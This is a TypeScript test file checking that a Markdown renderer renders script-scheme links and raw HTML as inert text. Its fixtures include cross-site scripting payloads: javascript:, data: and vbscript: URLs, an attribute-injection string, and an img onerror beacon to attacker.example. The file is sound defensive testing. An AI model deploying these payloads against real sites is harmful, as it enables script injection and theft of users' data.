import assert from 'node:assert/strict';
import { test } from 'node:test';
import { renderMarkdown } from './markdown.ts';

/** Every href in some HTML, with entities decoded and spaces removed. */
function hrefs(html: string): string[] {
  return [...html.matchAll(/href="([^"]*)"/g)].map((match) =>
    (match[1] ?? '')
      .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) =>
        String.fromCodePoint(parseInt(hex, 16)),
      )
      .replace(/&#(\d+);?/g, (_, dec: string) =>
        String.fromCodePoint(Number(dec)),
      )
      .replace(/&amp;/g, '&')
      .replace(/[\s\u0000-\u001f]/g, ''),
  );
}

test('Markdown links with script schemes render as text, never as links (BUG-08)', () => {
  const targets = [
    'javascript:alert(1);//"onmouseover="alert(document.domain);//',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java&#x09;script:alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
  ];
  for (const target of targets) {
    const html = renderMarkdown(`[site](${target})`);
    for (const href of hrefs(html)) {
      assert.doesNotMatch(href, /^(javascript|data|vbscript):/i, target);
    }
    assert.doesNotMatch(html, /<[^>]*\son\w+\s*=/i, target);
  }
});

test('raw HTML in Markdown is shown as text (BUG-11)', () => {
  const html = renderMarkdown(
    '# Welcome\n' +
      '<img src="x" onerror="navigator.sendBeacon(\'https://attacker.example/t\')">\n' +
      '<iframe src="javascript:alert(1)"></iframe>\n' +
      '<a href="#" style="position:fixed;top:0">x</a>',
  );

  assert.doesNotMatch(html, /<(img|iframe)\b/);
  assert.doesNotMatch(html, /<a href="#"/);
  assert.doesNotMatch(html, /<[^>]*\sstyle=/);
  assert.match(html, /<h1 id="h-welcome">Welcome<\/h1>/);
  assert.match(html, /&lt;img src="x" onerror=/);
});

test('ordinary links, lists and tables render', () => {
  const html = renderMarkdown(
    '[GOV.UK](https://www.gov.uk) and <mailto:team@example.gov.uk>\n\n' +
      '- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  );

  assert.match(
    html,
    /<a href="https:\/\/www.gov.uk" rel="noopener noreferrer">GOV.UK<\/a>/,
  );
  assert.match(html, /<a href="mailto:team@example.gov.uk"/);
  assert.match(html, /<li>two<\/li>/);
  assert.match(html, /<td>2<\/td>/);
});
